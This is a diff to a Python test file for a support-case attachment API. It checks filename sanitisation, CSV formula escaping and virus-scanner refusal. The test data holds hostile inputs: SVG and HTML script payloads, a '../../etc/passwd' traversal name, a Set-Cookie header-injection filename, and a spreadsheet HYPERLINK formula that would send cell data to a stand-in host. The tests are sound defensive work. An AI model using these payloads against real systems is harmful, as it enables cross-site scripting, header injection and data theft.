@@ -1,12 +1,17 @@
 """Files of support cases: one's own and those that staff share, told by their content, bounded, attached once."""
 
 import base64
+from collections.abc import AsyncIterator
 from typing import Any
 
 import httpx
+import msgspec
 import pytest
 
+from app.settings import Settings
 from tests.http.case_stand import api, hana, held, kenji, opened
+from tests.http.test_account_write import customers, linked
+from tests.integrations.clamd import Clamd, listening
 
 __all__ = ["api", "hana", "kenji"]
 
@@ -108,6 +113,8 @@ async def test_a_file_is_reached_through_its_own_case_of_its_own_account_alone(
     [
         (b"\xff\xd8\xff\xe0 jpeg", "photo.JPEG", "photo.jpeg"),
         (b"%PDF-1.4", "../../etc/passwd", "passwd.pdf"),
+        (b"<svg onload='alert(1)'/>", "drawing.svg", "drawing.svg.txt"),
+        (b"<html><script>alert(1)</script>", "page.html", "page.html.txt"),
         ("ルーター".encode(), "メモ.txt", "メモ.txt"),
         (PICTURE, 'a"\r\nSet-Cookie: x=1.png', "a_ Set-Cookie_ x_1.png"),
         (PICTURE, "invoice.exe", "invoice.exe.png"),
@@ -176,3 +183,62 @@ async def test_while_salesforce_is_down_files_are_a_problem_too(
         await api.get(f"/api/cases/{case_id}/attachments/{file_id}", headers=hana),
     ):
         assert (answer.status_code, answer.json()["code"]) == (503, "support_unavailable")
+
+
+async def test_formulas_of_a_table_are_texts_for_whoever_opens_it(
+    api: httpx.AsyncClient, sandbox: Any, hana: dict[str, str], case_id: str
+) -> None:
+    table = b'name,number\r\nHana,=HYPERLINK("http://x.example?"&A1)\r\n"\t=1","+81 90"\r\n'
+    shown = (await attach(api, hana, case_id, table, "bills.csv")).json()["attachments"]
+    read = await api.get(f"/api/cases/{case_id}/attachments/{shown[0]['attachment_id']}", headers=hana)
+    assert read.text == 'name,number\r\nHana,\'=HYPERLINK("http://x.example?"&A1)\r\n"\'\t\'=1","\'+81 90"\r\n'
+    again = await attach(api, hana, case_id, table, "bills.csv")
+    assert (again.status_code, len(await held(sandbox, "ContentVersion"))) == (201, 1)
+    plain = await attach(api, hana, case_id, b"=1+1 is what I typed", "note.txt")
+    listed = plain.json()["attachments"]
+    note = next(each for each in listed if each["name"] == "note.txt")
+    read = await api.get(f"/api/cases/{case_id}/attachments/{note['attachment_id']}", headers=hana)
+    assert read.text == "=1+1 is what I typed"
+
+
+@pytest.fixture
+async def clamd() -> AsyncIterator[Clamd]:
+    async with listening() as made:
+        yield made
+
+
+@pytest.fixture
+async def scanned(
+    serve: Any, sandbox_settings: Settings, clamd: Clamd, sandbox: Any
+) -> AsyncIterator[httpx.AsyncClient]:
+    """An API whose scanner is `clamd`."""
+    asking = msgspec.structs.replace(sandbox_settings, attachment_scanner=clamd.address, attachment_scan_seconds=1.0)
+    async with serve(asking) as client:
+        yield client
+
+
+async def test_an_infected_file_is_refused_and_stored_nowhere(
+    scanned: httpx.AsyncClient, clamd: Clamd, sandbox: Any
+) -> None:
+    hana = await linked(scanned, customers(sandbox)[0])
+    case_id = str((await opened(scanned, hana))["case_id"])
+    clamd.known[b"evil"] = "Test.Evil"
+    refused = await attach(scanned, hana, case_id, PICTURE + b"evil")
+    assert (refused.status_code, refused.json()["code"]) == (422, "attachment_infected")
+    assert "Test.Evil" not in refused.text
+    assert await held(sandbox, "ContentVersion") == []
+    assert (await attach(scanned, hana, case_id)).status_code == 201
+    assert clamd.scanned == [PICTURE + b"evil", PICTURE]
+
+
+@pytest.mark.parametrize("answer", [None, b"stream: ERROR\0"])
+async def test_while_the_scanner_judges_nothing_no_file_is_stored(
+    scanned: httpx.AsyncClient, clamd: Clamd, sandbox: Any, answer: bytes | None
+) -> None:
+    hana = await linked(scanned, customers(sandbox)[0])
+    case_id = str((await opened(scanned, hana))["case_id"])
+    clamd.answer = answer
+    refused = await attach(scanned, hana, case_id)
+    assert (refused.status_code, refused.json()["code"]) == (503, "scanner_unavailable")
+    assert int(refused.headers["retry-after"]) > 0
+    assert await held(sandbox, "ContentVersion") == []
